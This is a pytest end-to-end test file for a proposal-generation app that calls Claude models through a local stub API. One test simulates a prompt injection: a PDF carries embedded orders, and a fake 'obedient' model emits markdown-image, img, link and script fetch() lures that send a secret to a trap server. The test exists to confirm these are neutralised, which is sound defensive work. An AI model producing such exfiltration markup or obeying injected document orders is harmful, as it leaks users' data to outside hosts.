"""All four operations through the Claude engine: a real server process, the real SDK, a local Messages API."""

from __future__ import annotations

import json
import threading
from collections import Counter
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from proposals.models import Operation
from tests.messages_answers import answer
from tests.messages_server import KEY, MessagesServer, Stage, refusal, silent, structured, text
from tests.pdfs import make_pdf_of_lines
from tests.reports import HONEST, ORDERS, obedient
from tests.servers import ROOT, Person, Process, Site
from tests.sockets import ProjectSocket
from tests.waiting import wait_until

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

MakeSite = Callable[..., Site]
KINDS = [str(kind) for kind in Operation.Kind]
SONNET, HAIKU = "claude (claude-sonnet-5-5)", "claude (claude-haiku-5-5)"


@pytest.fixture
def small_rc() -> Path:
    """A sample RC with few requirements."""
    return ROOT / "proposals/samples/rc/mapa-petite-commune.pdf"


def serve(make_site: MakeSite, server: MessagesServer, **settings: str) -> tuple[Process, str]:
    """Start an installation that asks the server."""
    return make_site(ANTHROPIC_API_KEY=KEY, ANTHROPIC_BASE_URL=server.url, **settings).serve()


def run_everything(person: Person, project_id: str) -> dict[str, dict[str, Any]]:
    """Run all operations and return the last of each kind, once nothing is unfinished."""
    person.http.post(f"/projects/{project_id}/run/").raise_for_status()
    return wait_until(lambda: find_ended(person, project_id), seconds=150, what="all operations to end")


def find_ended(person: Person, project_id: str) -> dict[str, dict[str, Any]]:
    """Return the operations of a project by kind if the last or a failed one is over, else nothing."""
    rows = person.http.get(f"/projects/{project_id}/operations/").raise_for_status().json()["results"]
    by_kind = {row["kind"]: row for row in rows}
    failed = any(row["status"] in ("failed", "cancelled") for row in rows)
    done = set(by_kind) == set(KINDS) and all(row["status"] == "succeeded" for row in rows)
    return by_kind if failed or done else {}


def test_one_run_goes_from_an_rc_to_documents(make_site: MakeSite, small_rc: Path) -> None:
    with MessagesServer(answer) as server:
        process, url = serve(make_site, server)
        alice = Person(url, "alice")
        project_id = alice.create_project(small_rc)
        with ProjectSocket(alice, project_id) as socket:
            socket.receive_snapshot()
            operations = run_everything(alice, project_id)
            socket.receive_end(operations["document_generation"]["id"])
            frames = socket.frames
        analysis = alice.http.get(f"/projects/{project_id}/analysis/").json()
        plan = alice.http.get(f"/projects/{project_id}/sections/").json()["sections"]
        sections = [alice.http.get(f"/sections/{section['id']}/").json() for section in plan]
        spent = alice.http.get("/usage/").json()

    assert {kind: row["error"] for kind, row in operations.items()} == dict.fromkeys(KINDS)
    assert analysis["engine"] == SONNET
    assert operations["matching"]["result"]["engine"] == HAIKU
    assert {section["engine"] for section in sections} == {SONNET}
    assert [frame for frame in frames if frame["type"] == "section_text"]
    assert_every_section_is_what_was_streamed(sections, frames)
    assert {row["kind"] for row in spent["kinds"]} == {"rc_analysis", "matching", "generation"}
    assert spent["offline"] is False
    calls = Counter(call.body["model"] for call in server.calls)
    assert calls["claude-sonnet-5-5"] == 1 + len(sections)
    assert sum(row["calls_total"] for row in spent["kinds"]) == sum(calls.values())
    assert KEY not in process.output
    assert KEY not in json.dumps(frames)


def assert_every_section_is_what_was_streamed(sections: list[dict[str, Any]], frames: list[dict[str, Any]]) -> None:
    for section in sections:
        pieces = [f["text"] for f in frames if f["type"] == "section_text" and f["section_id"] == section["id"]]
        assert "".join(pieces) == section["text"]


class Trap(HTTPServer):
    """A web server that nobody should call."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        super().__init__(("127.0.0.1", 0), _TrapHandler)
        self.url = f"http://127.0.0.1:{self.server_port}"


class _TrapHandler(BaseHTTPRequestHandler):
    server: Trap

    def do_GET(self) -> None:
        self.server.calls.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Nothing is printed."""


def taken_in(trap: Trap) -> Callable[[Stage], None]:
    """Return the scene of a model that does what the document says."""

    def scene(stage: Stage) -> None:
        form = stage.request.body.get("output_config", {}).get("format")
        if form is None:
            lure = f"![x]({trap.url}/image?cle=secret) <img src='{trap.url}/html'> [lien]({trap.url}/lien)"
            text("Voici. ", lure, f" <script>fetch('{trap.url}/script')</script>\n\n[à compléter : le reste]")(stage)
        elif "facts" in form["schema"]["properties"]:
            structured(obedient())(stage)
        else:
            structured({"passages": [{"key": "P999", "score": 1}]})(stage)

    return scene


def test_a_document_with_orders_and_a_model_that_obeys_change_nothing(make_site: MakeSite, tmp_path: Path) -> None:
    rc = tmp_path / "rc.pdf"
    rc.write_bytes(make_pdf_of_lines(HONEST, ORDERS))
    trap = Trap()
    threading.Thread(target=trap.serve_forever, daemon=True).start()

    with MessagesServer(taken_in(trap)) as server:
        process, url = serve(make_site, server)
        alice = Person(url, "alice")
        project_id = alice.create_project(rc)
        operations = run_everything(alice, project_id)
        project = alice.http.get(f"/projects/{project_id}/").json()
        requirements = alice.http.get(f"/projects/{project_id}/requirements/").json()["results"]
        matching = operations["matching"]["result"]
    trap.shutdown()
    trap.server_close()

    assert {kind: row["error"] for kind, row in operations.items()} == dict.fromkeys(KINDS)
    assert trap.calls == []
    assert project["deadline"].startswith("2027-03-12")
    assert project["status"] == "active"
    assert [(row["status"], row["quote"]) for row in requirements] == [("proposed", "")]
    assert matching["engine"] == HAIKU
    assert KEY not in process.output


def test_a_cancelled_analysis_hangs_up_and_the_server_goes_on(make_site: MakeSite, small_rc: Path) -> None:
    with MessagesServer(silent('{"facts": ['), refusal(529, "overloaded_error")) as server:
        _, url = serve(make_site, server, PROPOSALS_CLAUDE_MAX_RETRIES="0")
        alice = Person(url, "alice")
        project_id = alice.create_project(small_rc)
        operation_id = alice.start(project_id)
        wait_until(lambda: server.calls, seconds=30, what="the call")
        alice.http.post(f"/operations/{operation_id}/cancel/").raise_for_status()
        assert server.left.wait(10)
        wait_until(lambda: alice.operation(operation_id)["status"] == "cancelled", what="the end")
        second = alice.start(project_id)
        wait_until(lambda: alice.operation(second)["status"] == "failed", seconds=30, what="the second end")

        error = alice.operation(second)["error"]

    assert isinstance(error, dict)
    assert (error["code"], error["retryable"]) == ("engine_overloaded", True)
